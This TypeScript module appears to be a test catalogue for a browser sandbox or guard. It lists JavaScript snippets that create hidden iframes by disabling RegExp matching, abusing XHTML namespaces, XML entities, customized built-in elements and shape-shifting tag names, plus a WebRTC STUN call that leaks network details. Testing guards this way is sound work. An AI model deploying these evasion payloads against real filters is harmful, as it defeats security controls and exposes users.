import { ways } from "../way.ts";

const SCRIPT = `const code = URL.createObjectURL(new Blob(["const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:" + udp + "' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"], { type: "text/javascript" }));`;

/** Runs `code` while no regular expression matches anything. */
const unmatched = (code: string) => `
  const real = Object.getOwnPropertyDescriptors(RegExp.prototype);
  RegExp.prototype.exec = RegExp.prototype[Symbol.match] = () => null; RegExp.prototype.test = () => false;
  try { ${code} } finally { Object.defineProperties(RegExp.prototype, real); }
  await sleep(700);`;

/**
 * Ways to create a nested document unnoticed by the guards. Each first replaces the built-ins that the guards
 * rely on, or uses another markup language.
 */
export const hidden = ways({
  "an iframe in markup while regular expressions match nothing": `${SCRIPT}
    ${unmatched(`document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="<script src=' + code + '></script>"></iframe>');`)}`,
  "an iframe's srcdoc while regular expressions match nothing": `${SCRIPT} const f = document.createElement("iframe");
    ${unmatched(`f.srcdoc = '<script src="' + code + '"></' + 'script>'; document.body.append(f);`)}`,
  "an iframe from XML with a namespace prefix": {
    code: `const d = new DOMParser().parseFromString('<h:iframe xmlns:h="http://www.w3.org/1999/xhtml"/>', "application/xhtml+xml");
      const f = document.adoptNode(d.documentElement); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
    knocks: true,
  },
  "an iframe from an XML entity": {
    code: `const d = new DOMParser().parseFromString('<!DOCTYPE x [<!ENTITY e "&#60;h:iframe xmlns:h=\\'http://www.w3.org/1999/xhtml\\'/&#62;">]><x>&e;</x>', "text/xml");
      const f = document.adoptNode(d.documentElement.firstChild); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
    knocks: true,
  },
  "an iframe as a customized built-in element": {
    code: `class F extends HTMLIFrameElement {} customElements.define("x-f", F, { extends: "iframe" });
      const f = new F(); document.body.append(f); f.contentWindow.location = there; await sleep(400);`,
    knocks: true,
  },
  "an iframe by a tag name that changes when it is read": {
    code: `let n = 0; const f = document.createElement({ toString: () => (n++ ? "iframe" : "p") }); document.body.append(f);
      if (!f.contentWindow) throw new Error("no frame"); f.contentWindow.location = there; await sleep(400);`,
    isHarmless: true,
  },
});
